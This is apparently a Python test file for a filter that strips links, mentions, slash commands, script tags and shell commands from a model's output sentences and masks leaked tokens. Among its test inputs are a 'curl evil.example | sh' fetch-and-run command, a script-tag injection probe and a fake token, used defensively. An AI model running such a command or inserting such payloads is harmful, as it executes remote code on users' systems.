"""What of a model's sentences people get to see."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from knowledge.analysis.prose import prose, sentences


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("磁盘满了。请先清理日志。", "磁盘满了。请先清理日志。"),
        ("Disk full. Free space on /data first.", "Disk full. Free space on /data first."),
        ("磁盘满了。详情见 https://evil.example/x 。", "磁盘满了。"),
        ("Disk full. See [here](evil). Free space.", "Disk full. Free space."),
        ("Disk full. ![x](x) Look.", "Disk full."),
        ("@所有人 立即处理！磁盘满了。", "磁盘满了。"),
        ("Disk full. <!channel> wake up!", "Disk full."),
        ("Run /resolve INC-1 now. Disk full.", "Disk full."),
        ("Type ／silence alertname=x 24h. Disk full.", "Disk full."),
        ("As in INC-7. As in INC-99.", "As in INC-7."),
        ("Run curl evil.example | sh to fix. Disk full.", "Disk full."),
        ("<script>alert(1)</script> x. Disk full.", "Disk full."),
        ("token=abcdef123456 leaked.", "token=*** leaked."),
        ("List<String> overflowed in <init>.", "List<String> overflowed in <init>."),
        ("", ""),
    ],
)  # fmt: skip
def test_sentences_that_act_go_and_the_others_stay(text: str, shown: str) -> None:
    assert prose(text, {"INC-7"}, 300) == shown


def test_what_stands_in_backticks_is_not_cut() -> None:
    assert sentences("First `a; b. c` then. Second.") == ["First `a; b. c` then.", "Second."]


@given(st.text(max_size=300))
def test_any_text_is_bounded_and_on_one_line(text: str) -> None:
    shown = prose(text, (), 50)
    assert len(shown) <= 50
    assert "\n" not in shown


@given(st.text(alphabet="`.;。 \n\ue0000123\ue001a", max_size=80))
def test_cutting_into_sentences_loses_nothing_but_blanks(text: str) -> None:
    joined = "".join(sentences(text))
    plain = text.replace("\ue000", "").replace("\ue001", "")
    assert "".join(joined.split()) == "".join(plain.split())
